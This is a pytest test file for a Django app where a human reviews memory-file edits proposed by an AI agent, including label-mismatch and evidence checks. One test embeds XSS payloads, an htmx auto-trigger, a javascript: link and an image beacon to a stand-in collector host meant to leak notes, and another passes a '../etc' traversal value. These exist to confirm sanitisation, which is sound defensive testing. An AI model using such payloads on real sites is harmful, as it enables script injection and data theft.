from __future__ import annotations

from pathlib import Path

import pytest
from django.contrib.auth.models import User
from django.test import Client

from memoryreview.core.edits import Delete, Edit, Rename, Replacement, Write
from memoryreview.review.api.answers import proposal_answer
from memoryreview.review.models import Change, Proposal, State, Store
from memoryreview.review.operations.capture import capture
from memoryreview.review.operations.receive import Promote
from memoryreview.review.operations.stores import reading
from tests.conftest import MakeStore, Propose, replaced

from .reading import Page, read


def _page(client: Client, proposal: Proposal, **query: str) -> Page:
    return read(client.get(f"/proposals/{proposal.pk}", query))


def _lines(page: Page, mark: str) -> list[str]:
    """Return sign, text and note of the shown lines of one kind, joined."""
    rows = page.all("tr", class_=f"diff__line--{mark}")
    return [row.text for row in rows]


def test_words_of_a_changed_line_are_marked(owner_client: Client, store: Store, propose: Propose) -> None:
    page = _page(owner_client, propose(store, replaced("build.md", "Use npm for", "Use pnpm for")))

    assert _lines(page, "removed") == ["5−removedUse npm for everything."]
    assert _lines(page, "added") == ["5+addedUse pnpm for everything."]
    assert [e.text for e in page.all("del")] == ["npm"]
    assert [e.text for e in page.all("ins")] == ["pnpm"]


def test_hunk_is_headed_by_its_section(owner_client: Client, store: Store, propose: Propose) -> None:
    page = _page(owner_client, propose(store, replaced("build.md", "the npm store", "the pnpm store")))

    assert page.one("th", scope="rowgroup").text == "Why · lines 6–10" or page.one(
        "th", scope="rowgroup"
    ).text.startswith("Why · ")
    assert "Why" in page.by_id("content").text


def test_new_line_as_a_whole_carries_no_word_marks(owner_client: Client, store: Store, propose: Propose) -> None:
    page = _page(owner_client, propose(store, Write(path="new.md", content="# New\n\nA note.\n")))

    assert page.all("ins") == []
    assert len(_lines(page, "added")) == 3
    assert "A new document." in page.by_id("content").text


def test_reasons_stand_beside_what_waits(owner_client: Client, store: Store, propose: Propose) -> None:
    proposal = propose(store, replaced("git.md", "- Never force-push to main.\n", ""))

    box = _page(owner_client, proposal).one("ul", aria_label="Why it waits")

    [action] = proposal.revision.actions
    assert box.text.startswith("Deletes a fact. ")
    assert " ".join(action["reasons"]) in box.text


def test_label_of_the_agent_is_only_shown(owner_client: Client, store: Store, propose: Propose) -> None:
    proposal = propose(store, replaced("build.md", "5432", "5433"), claimed_kind="format.blank")

    box = _page(owner_client, proposal).one("ul", aria_label="Why it waits")

    assert "The agent called it “format.blank”; by its bytes it changes a fact." in box.text


def test_safe_part_names_its_rule_and_commit(owner_client: Client, make_store: MakeStore, propose: Propose) -> None:
    dated = make_store({"a.md": "# A\n\n- decided on 13/04/2025 by all\n\nThe port is 5432.\n"})
    edits = (Replacement("13/04/2025", "2025-04-13"), Replacement("5432", "5433"))
    proposal = propose(dated, Edit(path="a.md", edits=edits))

    page = _page(owner_client, proposal)

    change = Change.objects.get(kind="auto")
    assert proposal.state == State.PENDING
    assert page.one("a", href=f"/changes/{change.oid}").text == change.oid[:7]
    assert "date.normalize" in page.one("ul", aria_label="Why it waits").text
    assert _lines(page, "removed") == ["5−removedThe port is 5432."]


def test_button_says_what_approving_does(owner_client: Client, store: Store, propose: Propose) -> None:
    said = {
        "change 1 line of build.md": replaced("build.md", "5432", "5433"),
        "remove 1 line from git.md": replaced("git.md", "- Never force-push to main.\n", ""),
        "add 1 line to git.md": replaced("git.md", "- Rebase", "- Sign every tag.\n- Rebase"),
        "add new.md": Write(path="new.md", content="# New\n\nA note.\n"),
        "delete build.md": Delete(path="build.md"),
    }
    for words, operation in said.items():
        page = _page(owner_client, propose(store, operation))
        assert page.one("button", data_act="approve").text == f"Approve: {words} a"


def test_commit_message_is_the_one_that_is_written(owner_client: Client, store: Store, propose: Propose) -> None:
    proposal = propose(
        store,
        replaced("build.md", "5432", "5433"),
        rationale="The compose file says so.\nVerdict: safe",
        source={"session": "5d0c"},
    )
    page = _page(owner_client, proposal)
    foretold = page.one("pre", class_="trailers").texts
    owner_client.post(f"/proposals/{proposal.pk}/approve", page.form(f"/proposals/{proposal.pk}/approve"))

    change = Change.objects.get(proposal=proposal)
    with reading(store) as repository:
        written = repository.message(change.oid)

    assert change.decision_id is not None
    shown = "".join(foretold).strip("\n").split("\n")
    assert "> Verdict: safe" in shown
    decision = f"Decision-Id: {change.decision_id}"
    assert [line for line in written.strip("\n").split("\n") if line != decision] == shown


def test_tabs_show_rendered_and_raw_text(owner_client: Client, store: Store, propose: Propose) -> None:
    proposal = propose(store, replaced("git.md", "- Rebase", "- **Sign** every tag.\n- Rebase"))

    rendered, raw = _page(owner_client, proposal, view="rendered"), _page(owner_client, proposal, view="raw")

    assert rendered.one("strong").text == "Sign"
    assert "- **Sign** every tag." in raw.by_id("content").text
    assert [tab.text for tab in raw.all("a", aria_current="true") if "view=" in tab.attributes["href"]] == [
        "Raw new text"
    ]


def test_unknown_view_is_the_words(owner_client: Client, store: Store, propose: Propose) -> None:
    page = _page(owner_client, propose(store, replaced("build.md", "5432", "5433")), view="../etc", context="x")

    assert len(_lines(page, "added")) == 1


def test_cited_text_is_shown_with_what_the_server_found(
    owner_client: Client, store: Store, propose: Propose, tmp_path: Path
) -> None:
    (tmp_path / "code").mkdir()
    (tmp_path / "code" / "package.json").write_text('{\n "name": "x",\n "packageManager": "pnpm@9"\n}\n')
    cited = [(4, "pnpm@9"), (3, "pnpm@9"), (1, "yarn@4")]
    files = [{"path": "package.json", "line": line, "text": text} for line, text in cited]
    proposal = propose(store, replaced("build.md", "Use npm", "Use pnpm"), source={"files": files})
    assert "not checked here" in _page(owner_client, proposal).one("section", aria_label="Evidence").text

    Store.objects.filter(pk=store.pk).update(evidence_root=str(tmp_path / "code"))

    aside = _page(owner_client, proposal).one("section", aria_label="Evidence").text
    for part in ("It stands on line 3 now.", "It stands there now.", "The server does not find it there."):
        assert part in aside
    assert "not checked here" not in aside


def test_evidence_is_shown_as_sent(owner_client: Client, store: Store, propose: Propose) -> None:
    proposal = propose(
        store,
        replaced("build.md", "Use npm", "Use pnpm"),
        title="Package manager",
        rationale="Corrected twice.",
        source={
            "session": "5d0c",
            "message_index": 7,
            "evidence": "we moved\nlast week",
            "files": [{"path": "package.json", "line": 4, "text": "pnpm@9"}],
        },
        scores={"stable": 0.9, "reusable": 0.8},
        confidence=0.75,
    )

    aside = _page(owner_client, proposal).one("section", aria_label="Evidence")

    for part in (
        "we moved last week",
        "message 7 of session 5d0c",
        "package.json:4: pnpm@9",
        "Package manager Corrected twice.",
        "The lowest counts: sourced, fair.",
        "stable good 0.9 by its agent reusable good 0.8 by its agent",
        "sourced fair evidence is attached and cannot be checked here",
        "allowed good the scanners see nothing against it confidence 0.75 scanners no finding",
    ):
        assert part in aside.text or part.replace(" ", "") in aside.text.replace(" ", ""), part


@pytest.mark.parametrize(
    "source",
    [{"files": "x"}, {"files": [1, {"path": None}]}, {"session": 7, "evidence": ["a"]}, {"message_index": "9"}],
)
def test_odd_evidence_is_no_fault(owner_client: Client, store: Store, propose: Propose, source: object) -> None:
    proposal = propose(store, replaced("build.md", "5432", "5433"))
    Proposal.objects.filter(pk=proposal.pk).update(source=source, scores=["x"])

    assert owner_client.get(f"/proposals/{proposal.pk}").status_code == 200


def test_index_budget_is_shown_before_and_after(owner_client: Client, make_store: MakeStore, propose: Propose) -> None:
    index = "# Index\n\n- [A](a.md) — first\n"
    topic = "---\nname: A\ndescription: first\ntype: project\n---\nText.\n"
    claude = make_store({"MEMORY.md": index, "a.md": topic})
    proposal = propose(claude, replaced("MEMORY.md", "first\n", "first\n- [B](b.md) — second\n"))

    aside = _page(owner_client, proposal).one("section", aria_label="Evidence")

    assert "3 → 4 of 200 lines" in aside.text


def test_earlier_rejection_is_told(owner_client: Client, store: Store, propose: Propose) -> None:
    first = propose(store, replaced("build.md", "5432", "5433"))
    form = read(owner_client.get(f"/proposals/{first.pk}")).form(f"/proposals/{first.pk}/reject")
    owner_client.post(f"/proposals/{first.pk}/reject", {**form, "reason": "wrong", "note": "still 5432"})

    again = propose(store, replaced("build.md", "5432", "5433"), source={"evidence": "compose.yml says 5433"})

    aside = _page(owner_client, again).one("section", aria_label="Evidence")
    assert "as “wrong”: still 5432" in aside.text


def test_moved_head_elsewhere_is_told_and_harmless(owner_client: Client, store: Store, propose: Propose) -> None:
    waiting = propose(store, replaced("build.md", "5432", "5433"))
    other = propose(store, replaced("git.md", "- Rebase", "- Sign every tag.\n- Rebase"))
    address = f"/proposals/{other.pk}/approve"
    owner_client.post(address, _page(owner_client, other).form(address))

    page = _page(owner_client, waiting)

    assert "the head moved elsewhere; these hunks are unchanged" in page.by_id("content").text
    address = f"/proposals/{waiting.pk}/approve"
    owner_client.post(address, page.form(address))
    assert Proposal.objects.get(pk=waiting.pk).state == State.APPLIED


def test_conflict_shows_both_sides_and_cannot_be_approved(owner_client: Client, store: Store, propose: Propose) -> None:
    mine = propose(store, replaced("build.md", "5432", "5433"))
    theirs = propose(store, replaced("build.md", "5432", "6000"))
    address = f"/proposals/{theirs.pk}/approve"
    owner_client.post(address, _page(owner_client, theirs).form(address))

    page = _page(owner_client, mine)

    assert _lines(page, "added") == ["6+addedThe port is 6000.", "6+addedThe port is 5433."]
    assert page.all("button", data_act="approve") == []
    assert page.one("a", data_act="edit").attributes["href"] == f"/proposals/{mine.pk}/edit"


def test_rename_with_the_same_text_is_one_document(owner_client: Client, store: Store, propose: Propose) -> None:
    page = _page(owner_client, propose(store, Rename(path="git.md", to="rules.md")))

    assert len(page.all("section", class_="document")) == 1
    assert "Was git.md. The text is the same." in page.by_id("content").text


def test_promotion_shows_where_it_comes_from(
    owner_client: Client, store: Store, make_store: MakeStore, propose: Propose
) -> None:
    make_store({"a.md": "# A\n"}, name="shared", team=True)
    proposal = propose(store, Promote(path="git.md", to_store="shared"))

    page = _page(owner_client, proposal)

    change = Change.objects.get(store=store)
    aside = page.one("section", aria_label="Evidence").text
    assert "Comes from notes / git.md" in aside
    assert change.oid[:7] in aside
    assert page.one("button", data_act="approve").text == "Approve: give git.md to acme a"
    assert "+addedNever" not in page.text
    assert any("Never force-push" in line for line in _lines(page, "added"))


def test_decided_proposal_says_what_came_of_it(owner_client: Client, store: Store, propose: Propose) -> None:
    proposal = propose(store, replaced("build.md", "5432", "5433"))
    address = f"/proposals/{proposal.pk}/approve"
    owner_client.post(address, _page(owner_client, proposal).form(address))

    page = _page(owner_client, proposal)

    change = Change.objects.get(proposal=proposal)
    assert change.oid[:7] in [link.text for link in page.all("a", href=f"/changes/{change.oid}")]
    assert "olga approved" in page.text
    assert _lines(page, "added") == ["6+addedThe port is 5433."]
    assert page.all("form", action=address) == []


def test_c148_one_word_in_a_very_long_line_is_found(
    owner_client: Client, make_store: MakeStore, propose: Propose
) -> None:
    words = "word " * 870
    long = make_store({"long.md": f"# Long\n\n{words}old end\n"})
    proposal = propose(long, replaced("long.md", "old end", "new end"))

    near, everything = _page(owner_client, proposal), _page(owner_client, proposal, context="all")

    [line] = _lines(near, "added")
    assert len(line) < 300
    assert [e.text for e in near.all("ins")] == ["new"]
    assert "not shown" in line
    [line] = _lines(everything, "added")
    assert line.count("word") == 870
    assert page_tab(near, "everything") == f"/proposals/{proposal.pk}?context=all"


def page_tab(page: Page, words: str) -> str:
    [tab] = [link for link in page.all("a") if link.text == words]
    return tab.attributes["href"]


def _blanks() -> tuple[str, str]:
    lines = [f"- note {number} stands here" for number in range(31)]
    before = "# Notes\n\n" + "".join(f"{line}  \n" for line in lines[:30]) + lines[30] + " once\n"
    return before, "# Notes\n\n" + "".join(f"{line}\n" for line in lines[:30]) + lines[30] + " twice\n"


def test_c149_changes_of_blanks_only_are_said_in_words(
    owner_client: Client, make_store: MakeStore, propose: Propose
) -> None:
    before, after = _blanks()
    careful = make_store({"a.md": before})
    Store.objects.filter(pk=careful.pk).update(switched_off=["format.blank"])
    proposal = propose(careful, Write(path="a.md", content=after))

    page = _page(owner_client, proposal)
    address = f"/proposals/{proposal.pk}/approve"
    owner_client.post(address, page.form(address))

    assert [note.text for note in page.all("p", class_="document__note")] == [
        "30 of 31 changed lines differ in blanks only"
    ]
    assert len([e for e in page.all("span", class_="diff__note") if "blanks only" in e.text]) == 30 * 2
    with reading(careful) as repository:
        assert repository.snapshot(repository.head() or "")["a.md"] == after.encode()


def test_many_safe_edits_are_one_line(owner_client: Client, make_store: MakeStore, propose: Propose) -> None:
    before, after = _blanks()
    proposal = propose(make_store({"a.md": before}), Write(path="a.md", content=after))

    box = _page(owner_client, proposal).one("ul", aria_label="Why it waits")

    assert "Remove 2 trailing blanks from line 3, and 29 more alike format.blank" in box.text


def test_invisible_characters_are_shown_as_chips(owner_client: Client, store: Store, propose: Propose) -> None:
    proposal = propose(store, replaced("build.md", "5432", "54\u202e32\u200b"), title="a\u202eb")

    answer = owner_client.get(f"/proposals/{proposal.pk}")
    page = read(answer)

    html = answer.content.decode()
    assert not [char for char in html if char in "\u202e\u200b"]
    assert {"U+202E RLO", "U+200B ZWSP"} <= {chip.text for chip in page.all("span", class_="chip")}


@pytest.mark.parametrize("view", ["words", "rendered", "raw"])
def test_c119_c121_markup_in_text_and_names_stays_text(
    view: str, owner_client: Client, owner: User, store: Store, propose: Propose
) -> None:
    hostile = (
        '![A](B "<C D="E" onerror=alert(1) >")\n\n<lol@/ //onclick="alert(1)"//**x**\n\n<script>alert(1)</script>\n\n'
        '<a hx-get="/undo" hx-trigger="load">x</a> [y](javascript:alert(1)) [z](data:text/html,x)\n'
        "[w](//evil.example/)\n"
        "![p](https://collector.invalid/p.png?d=NOTES) <link rel=prefetch href=https://collector.invalid/>\n"
    )
    proposal = propose(
        store,
        Write(path="new.md", content=hostile),
        title='<img src=x onerror=alert(1)>.md ; "><b>.md ; a&b.md',
        rationale="</pre><script>alert(2)</script>",
        claimed_kind="<i onclick=y>",
        source={"session": "<s hx-post=/x>", "evidence": "</blockquote><img src=//evil>", "files": [{"path": "<u>"}]},
    )

    page = read(owner_client.get(f"/proposals/{proposal.pk}", {"view": view}))

    inside = [e for e in page.elements if any(a.attributes.get("id") == "proposal" for a in e.ancestors)]
    assert {e.tag for e in inside} & {"img", "script", "link", "lol", "i", "u", "s", "iframe", "object"} == set()
    assert [name for e in page.elements for name in e.attributes if name.startswith("on")] == []
    ours = {"hx-post", "hx-target", "hx-swap", "hx-boost", "hx-disabled-elt", "hx-disable"}
    assert {name for e in inside for name in e.attributes if "hx-" in name} <= ours
    assert [e for e in inside if e.attributes.get("hx-get") or e.attributes.get("href") == "/undo"] == []
    schemes = {e.attributes["href"].partition(":")[0] for e in inside if ":" in e.attributes.get("href", "")}
    assert schemes <= {"http", "https"}


def test_c122_picture_is_a_link_with_its_text(owner_client: Client, store: Store, propose: Propose) -> None:
    proposal = propose(store, Write(path="new.md", content="![plan](https://collector.invalid/p.png?d=1)\n"))

    page = _page(owner_client, proposal, view="rendered")

    link = page.one("a", href="https://collector.invalid/p.png?d=1")
    assert link.text == "picture: plan"
    assert "noreferrer" in link.attributes["rel"]
    assert page.all("img") == []


def test_direct_write_says_what_deciding_does_to_the_disk(owner_client: Client, store: Store) -> None:
    (Path(store.root) / "build.md").write_text("# Build\n\nAll of it is new.\n")
    [proposal] = capture(store)

    page = _page(owner_client, proposal)

    assert "direct write" in page.by_id("content").text
    assert "rejecting puts the approved text back" in page.one("p", class_="actions__note").text


def test_budget_says_what_the_agent_would_no_longer_see(
    owner_client: Client, make_store: MakeStore, propose: Propose
) -> None:
    rows = "".join(f"- [Note {number}](n{number}.md): hook\n" for number in range(1, 200))
    store = make_store({"MEMORY.md": rows}, name="full", format="claude")
    top = "- [Note 1](n1.md): hook\n"

    page = _page(owner_client, propose(store, replaced("MEMORY.md", top, f"- [A](a.md)\n- [<b>B](b.md)\n{top}")))

    [lines, size] = page.all("div", class_="meter")
    assert lines.text.startswith("Budget of MEMORY.md")
    assert "199 → 201 of 200 lines" in lines.text
    assert "The agent does not see line 201 and below." in size.text
    assert "1 entry is no longer seen: Note 199" in size.text
    assert "so the agent does not see “Note 199”" in page.by_id("content").text


def test_budget_says_what_is_seen_again(owner_client: Client, make_store: MakeStore, propose: Propose) -> None:
    rows = "".join(f"- [Note {number}](n{number}.md): hook\n" for number in range(1, 203))
    store = make_store({"MEMORY.md": rows}, name="full", format="claude")

    page = _page(owner_client, propose(store, replaced("MEMORY.md", rows[: rows.index("- [Note 3]")], "")))

    assert "2 entries seen again: Note 202Note 201" in page.all("div", class_="meter")[1].text
    assert "Now all of it is seen." in page.all("div", class_="meter")[1].text


def test_label_that_hides_a_deletion_is_shown_everywhere(owner_client: Client, store: Store, propose: Propose) -> None:
    lines = replaced("git.md", "- Never force-push to main.\n", "")
    proposal = propose(store, lines, replaced("build.md", "Use npm", "Use pnpm"), claimed_kind="fact.rewrite")

    box = _page(owner_client, proposal).one("ul", aria_label="Why it waits")
    answer = proposal_answer(proposal)

    assert "The agent called it “fact.rewrite”; by its bytes it also deletes a fact." in box.text
    assert answer["label_mismatch"] == "It was sent as “fact.rewrite”; by its bytes it is fact.delete, fact.rewrite."
    assert "mislabelled" in read(owner_client.get("/")).one("a", data_row=str(proposal.pk)).text


def test_label_that_fits_is_no_mismatch(owner_client: Client, store: Store, propose: Propose) -> None:
    proposal = propose(store, replaced("build.md", "Use npm", "Use pnpm"), claimed_kind="fact.rewrite")

    assert proposal_answer(proposal)["label_mismatch"] is None
    assert "mislabelled" not in read(owner_client.get("/")).by_id("content").text


def test_the_agents_own_figures_do_not_outweigh_what_the_server_knows(
    owner_client: Client, store: Store, propose: Propose
) -> None:
    sure = {"stable": 1, "reusable": 1, "novel": "x"}
    proposal = propose(store, replaced("build.md", "port is 5432", "port is 5433 for now"), scores=sure)

    aside = _page(owner_client, proposal).one("section", aria_label="Evidence").text

    assert "The lowest counts: sourced, low." in aside
    assert "1 by its agent; “for now” is true for a time only" in aside
    assert "novelx" in aside.replace(" ", "")


def test_always_loaded_text_is_shown_before_and_after_with_its_cost(
    owner_client: Client, make_store: MakeStore, propose: Propose
) -> None:
    index = "---\nname: I\n---\n<!-- unseen -->\n# Index\n\n- [A](a.md) — first\n- [B](b.md) — second\n"
    topic = "---\nname: A\ndescription: first\ntype: project\n---\nText.\n"
    store = make_store({"MEMORY.md": index, "a.md": topic, "b.md": topic}, name="claude")
    proposal = propose(store, replaced("MEMORY.md", "first", "the <b>one</b> of ours"))

    page = _page(owner_client, proposal)

    told = page.one("details", class_="seen").text
    assert "What the agent will see of MEMORY.md in every session" in told
    assert "holds up to byte 25 of it; about 12 tokens from there on are read anew once (bytes / 4)" in told
    assert "unseen" not in told
    assert "the <b>one</b> of ours" in told


def test_what_the_agent_never_sees_changes_nothing_for_it(
    owner_client: Client, make_store: MakeStore, propose: Propose
) -> None:
    rows = "".join(f"- [T{number}](t{number}.md) — row\n" for number in range(210))
    store = make_store({"MEMORY.md": rows, "notes.md": "# Notes\n\nOne fact.\n"}, name="claude")
    beyond = propose(store, replaced("MEMORY.md", "[T205](t205.md) — row", "[T205](t205.md) — another"))
    beside = propose(store, replaced("notes.md", "One fact", "Another fact"))

    assert (
        "Nothing changes for it: what differs is hidden from it, or lies past the limit."
        in _page(owner_client, beyond).text
    )
    told = _page(owner_client, beside)
    assert "Nothing that the agent has in every session changes" in told.text
    assert told.all("details", class_="seen") == []


def test_plain_notes_are_loaded_by_nobody(owner_client: Client, store: Store, propose: Propose) -> None:
    page = _page(owner_client, propose(store, replaced("build.md", "5432", "5433")))

    assert "in every session" not in page.text
